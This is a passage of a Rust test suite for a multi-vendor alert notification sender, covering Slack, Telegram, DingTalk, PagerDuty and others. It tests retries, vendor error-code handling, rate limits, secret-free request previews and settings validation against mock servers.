    let refusal = || Reply::Answer {
        status: 200,
        headers: Vec::new(),
        body: refusal.clone(),
    };
    im.script([refusal()]);
    assert_eq!(
        all_said(&deliver(&*bot, &job).await),
        ["more post", "delivered"]
    );
    assert_eq!(im.taken()[0].body["msg_type"], "post");
    im.script([refusal(), refusal()]);
    assert_eq!(
        all_said(&deliver(&*bot, &job).await),
        ["more post", "permanent provider_rejected"]
    );

    let im = Im::telegram(BOT, 77).await.unwrap();
    let bot = target(
        "telegram",
        &json!({ "token": BOT, "chatId": "77", "baseUrl": im.base() }),
    );
    // The operator's own markup may be wrong.
    let own = rendered("<b>never closed", false);
    job.body = Some(&own);
    assert_eq!(
        all_said(&deliver(&*bot, &job).await),
        ["more plain", "delivered"]
    );
    assert!(im.taken()[0].body.get("parse_mode").is_none());
}

#[tokio::test]
async fn a_message_that_may_have_arrived_is_sent_twice_at_most_unless_the_vendor_knows_repeats() {
    let event = alarm("1", &json!({}));
    for (kind, mut settings, last) in [
        (
            "wecom",
            json!({ "key": WECOM, "timeoutSeconds": 1 }),
            "permanent timeout",
        ),
        (
            "pagerduty",
            json!({ "routingKey": ROUTING, "timeoutSeconds": 1 }),
            "retry timeout",
        ),
    ] {
        let im = Im::gotify(TOKEN).await.unwrap();
        settings["baseUrl"] = json!(im.base());
        let target = target(kind, &settings);
        im.script([Reply::Hang, Reply::Hang]);
        let mut job = job(&event);
        let first = target.deliver(&job).await;
        assert_eq!(said(&first), "retry timeout", "{kind}");
        job.progress = first.progress.as_deref();
        let second = target.deliver(&job).await;
        assert_eq!(said(&second), last, "{kind}");
    }
}

#[tokio::test]
async fn what_is_wrong_with_a_bot_is_told_as_that() {
    let event = alarm("1", &json!({}));
    let wecom = Im::wecom(WECOM).await.unwrap();
    let dingtalk = Im::dingtalk(TOKEN, Some(SECRET), Some("告警"))
        .await
        .unwrap();
    let feishu = Im::feishu(TOKEN, Some(SECRET), Some("告警")).await.unwrap();
    let slack = Im::slack_api("xoxb-0123456789-abcdef", "C0123456789")
        .await
        .unwrap();
    let hook = Im::slack_webhook().await.unwrap();
    let teams = Im::teams().await.unwrap();
    let telegram = Im::telegram(BOT, 77).await.unwrap();
    let discord = Im::discord().await.unwrap();
    let pagerduty = Im::pagerduty(ROUTING).await.unwrap();
    let opsgenie = Im::opsgenie(TOKEN).await.unwrap();
    let ntfy = Im::ntfy("ops-alarms", "tk_0123456789").await.unwrap();
    let gotify = Im::gotify(TOKEN).await.unwrap();
    let bark = Im::bark(TOKEN).await.unwrap();
    let (ding, lark) = (dingtalk.base(), feishu.base());
    for (kind, im, settings, code) in [
        (
            "wecom",
            &wecom,
            json!({ "key": "another-key", "baseUrl": wecom.base() }),
            "93000",
        ),
        (
            "dingtalk",
            &dingtalk,
            json!({ "accessToken": "another", "secret": SECRET, "keyword": "告警", "baseUrl": ding }),
            "300005",
        ),
        (
            "dingtalk",
            &dingtalk,
            json!({ "accessToken": TOKEN, "secret": "SECanother", "keyword": "告警", "baseUrl": ding }),
            "310000",
        ),
        (
            "dingtalk",
            &dingtalk,
            json!({ "accessToken": TOKEN, "keyword": "告警", "baseUrl": ding }),
            "310000",
        ),
        (
            "dingtalk",
            &dingtalk,
            json!({ "accessToken": TOKEN, "secret": SECRET, "baseUrl": ding }),
            "310000",
        ),
        (
            "feishu",
            &feishu,
            json!({ "token": "another", "secret": SECRET, "keyword": "告警", "baseUrl": lark }),
            "19001",
        ),
        (
            "feishu",
            &feishu,
            json!({ "token": TOKEN, "secret": "another", "keyword": "告警", "baseUrl": lark }),
            "19021",
        ),
        (
            "feishu",
            &feishu,
            json!({ "token": TOKEN, "secret": SECRET, "baseUrl": lark }),
            "19024",
        ),
        (
            "slack",
            &slack,
            json!({ "token": "xoxb-another", "channel": "C0123456789", "baseUrl": slack.base() }),
            "invalid_auth",
        ),
        (
            "slack",
            &slack,
            json!({ "token": "xoxb-0123456789-abcdef", "channel": "C9", "baseUrl": slack.base() }),
            "channel_not_found",
        ),
        (
            "slack",
            &hook,
            json!({ "url": format!("{}/services/T0/B0/another", hook.base()) }),
            "no_service",
        ),
        (
            "teams",
            &teams,
            json!({ "url": format!("{}/workflows/another", teams.base()) }),
            "404",
        ),
        (
            "telegram",
            &telegram,
            json!({ "token": "another", "chatId": "77", "baseUrl": telegram.base() }),
            "401",
        ),
        (
            "telegram",
            &telegram,
            json!({ "token": BOT, "chatId": "78", "baseUrl": telegram.base() }),
            "400",
        ),
        (
            "discord",
            &discord,
            json!({ "url": format!("{}/api/webhooks/1/another", discord.base()) }),
            "10015",
        ),
        (
            "pagerduty",
            &pagerduty,
            json!({ "routingKey": "another", "baseUrl": pagerduty.base() }),
            "400",
        ),
        (
            "opsgenie",
            &opsgenie,
            json!({ "apiKey": "another", "baseUrl": opsgenie.base() }),
            "401",
        ),
        (
            "ntfy",
            &ntfy,
            json!({ "topic": "ops-alarms", "token": "tk_another", "baseUrl": ntfy.base() }),
            "40301",
        ),
        (
            "gotify",
            &gotify,
            json!({ "token": "another", "baseUrl": gotify.base() }),
            "401",
        ),
        (
            "bark",
            &bark,
            json!({ "deviceKey": "another", "baseUrl": bark.base() }),
            "400",
        ),
    ] {
        let before = im.refused().len();
        let target = target(kind, &settings);
        let attempted = target.deliver(&job(&event)).await;
        assert_eq!(
            said(&attempted),
            "permanent misconfigured",
            "{kind} {settings}: {attempted:?}"
        );
        assert_eq!(im.refused()[before].code, code, "{kind} {settings}");
        assert!(
            detail(&attempted).contains(code),
            "{kind}: {}",
            detail(&attempted)
        );
        assert!(
            !format!("{attempted:?}").contains("another"),
            "{kind}: {attempted:?}"
        );
    }
    // Too many: the robot says so, and DingTalk's is blocked for ten minutes.
    for (kind, im, settings, code, wait) in [
        (
            "wecom",
            &wecom,
            json!({ "key": WECOM, "baseUrl": wecom.base() }),
            "45009",
            60_000,
        ),
        (
            "dingtalk",
            &dingtalk,
            json!({ "accessToken": TOKEN, "secret": SECRET, "keyword": "告警", "baseUrl": ding }),
            "130101",
            600_000,
        ),
    ] {
        let target = target(kind, &settings);
        for _ in 0..20 {
            assert_eq!(said(&target.deliver(&job(&event)).await), "delivered");
        }
        let attempted = target.deliver(&job(&event)).await;
        assert_eq!(said(&attempted), format!("retry rate_limited {wait}"));
        assert_eq!(im.refused().last().unwrap().code, code);
    }
}

#[test]
fn channels_are_told_apart_by_the_bot_and_shared_by_all_that_use_it() {
    let key = |kind: &str, settings: Value| {
        find_kind(kind)
            .unwrap()
            .connect(settings, &context(crate::support::public_egress()))
            .map_err(|errors| format!("{errors:?}"))
            .unwrap()
            .channel()
            .unwrap()
            .key
    };
    let one = key("wecom", json!({ "key": "key-0001" }));
    assert_eq!(
        one,
        key(
            "wecom",
            json!({ "key": "key-0001", "language": "en", "format": "text" })
        )
    );
    assert_ne!(one, key("wecom", json!({ "key": "key-0002" })));
    // Of each vendor: what it allows in a minute, and in its shorter window.
    for (kind, a_minute, window) in [
        ("wecom", 20, None),
        ("dingtalk", 20, None),
        ("feishu", 100, Some((1, 5))),
        ("slack", 60, Some((2, 5))),
        ("teams", 240, Some((1, 4))),
        ("telegram", 20, None),
        ("discord", 30, Some((2, 5))),
        ("pagerduty", 120, None),
        ("opsgenie", 100, None),
        ("ntfy", 72, None),
        ("bark", 100, None),
    ] {
        let limit = offline(kind, &json!({})).channel().unwrap().limit;
        assert_eq!(limit.per, Duration::from_mins(1));
        // One more after a restart.
        assert!(limit.permits + limit.burst < a_minute, "{kind}: {limit:?}");
        if let Some((seconds, allowed)) = window {
            let refilled = (limit.permits * seconds).div_ceil(60);
            assert!(limit.burst + refilled <= allowed, "{kind}: {limit:?}");
        }
    }
    assert!(offline("gotify", &json!({})).channel().is_none());
}

#[test]
fn a_preview_shows_the_exact_requests_without_secrets() {
    let event = alarm("1", &json!({}));
    for (kind, address) in [
        (
            "wecom",
            "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=********",
        ),
        (
            "feishu",
            "https://open.feishu.cn/open-apis/bot/v2/hook/********",
        ),
        ("slack", "https://hooks.slack.com/********"),
        (
            "teams",
            "https://prod-01.westeurope.logic.azure.com/********",
        ),
        (
            "telegram",
            "https://api.telegram.org/bot********/sendMessage",
        ),
        ("discord", "https://discord.com/********"),
        ("pagerduty", "https://events.pagerduty.com/v2/enqueue"),
        ("opsgenie", "https://api.opsgenie.com/v2/alerts"),
        ("ntfy", "https://ntfy.sh/"),
        ("gotify", "https://gotify.example.com/message"),
        ("bark", "https://api.day.app/push"),
    ] {
        let kind = find_kind(kind).unwrap();
        let settings = kind.example();
        let target = kind
            .connect(settings.clone(), &context(crate::support::public_egress()))
            .map_err(|errors| format!("{errors:?}"))
            .unwrap();
        let records = target.preview(&job(&event)).unwrap();
        assert_eq!(records[0].url, address);
        let shown = format!("{records:?}");
        for pointer in kind.secret_pointers(&settings) {
            let secret = settings.pointer(&pointer).and_then(Value::as_str).unwrap();
            assert!(!shown.contains(secret), "{}: {shown}", kind.name());
        }
        let body = records[0].body.as_deref().unwrap();
        assert!(serde_json::from_str::<Value>(body).unwrap().is_object());
    }
}

#[test]
fn wrong_settings_are_told_with_their_place() {
    let egress = crate::support::public_egress();
    for (kind, settings, pointer) in [
        (
            "wecom",
            json!({ "key": "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=x" }),
            "/key",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "mentions": { "users": ["a", "<@b>"] } }),
            "/mentions/users/1",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "mentions": { "mobiles": ["abc"] } }),
            "/mentions/mobiles/0",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "baseUrl": "https://x.example/?a=b" }),
            "/baseUrl",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "format": "html" }),
            "/format",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "timeZone": "Beijing" }),
            "/timeZone",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "language": "fr" }),
            "/language",
        ),
        (
            "wecom",
            json!({ "key": "key-0001", "timeoutSeconds": 0 }),
            "/timeoutSeconds",
        ),
        ("wecom", json!({}), "/key"),
        (
            "dingtalk",
            json!({ "accessToken": "token-1", "keyword": "" }),
            "/keyword",
        ),
        (
            "dingtalk",
            json!({ "accessToken": "token-1", "format": "actionCard", "mentions": { "all": true } }),
            "/mentions",
        ),
        ("feishu", json!({ "token": "a b" }), "/token"),
        ("slack", json!({}), "/url"),
        ("slack", json!({ "token": "xoxb-12" }), "/channel"),
        (
            "slack",
            json!({ "token": "xoxb-12", "url": "https://a.example" }),
            "/token",
        ),
        ("slack", json!({ "url": "ftp://a.example" }), "/url"),
        (
            "teams",
            json!({ "url": "https://a.example", "mentions": [{ "id": "a", "name": "<b>" }] }),
            "/mentions/0/name",
        ),
        (
            "telegram",
            json!({ "token": "token-1", "chatId": "my chat" }),
            "/chatId",
        ),
        (
            "discord",
            json!({ "url": "https://a.example", "mentions": { "roles": ["x"] } }),
            "/mentions/roles/0",
        ),
        ("ntfy", json!({ "topic": "a/b" }), "/topic"),
        ("gotify", json!({ "token": "token-1" }), "/baseUrl"),
    ] {
        let errors = find_kind(kind).unwrap().validate(&settings, &egress);
        let pointers: Vec<_> = errors.iter().map(|error| error.pointer.as_str()).collect();
        assert_eq!(pointers, [pointer], "{kind} {settings}: {errors:?}");
    }
}
